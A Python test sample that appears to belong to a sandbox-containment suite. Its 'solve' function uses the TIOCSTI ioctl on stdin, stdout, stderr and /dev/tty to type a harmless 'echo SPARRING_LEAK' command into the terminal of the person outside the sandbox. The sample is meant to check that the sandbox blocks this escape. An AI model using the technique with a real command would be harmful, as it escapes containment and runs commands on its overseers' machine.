"""Pushes keystrokes into any terminal it shares with the person outside (TIOCSTI), to
run a command there later."""
# kind: call
# class: descriptors
# may: WRONG
# danger: types a harmless echo into the terminal it was started from
import fcntl
import os
import termios
from contextlib import suppress


def solve(n):
    handles = [0, 1, 2]
    with suppress(OSError):
        handles.append(os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY))
    for handle in handles:
        for key in b"echo SPARRING_LEAK typed from inside the sandbox\n":
            with suppress(OSError):
                fcntl.ioctl(handle, termios.TIOCSTI, bytes([key]))
    return 0
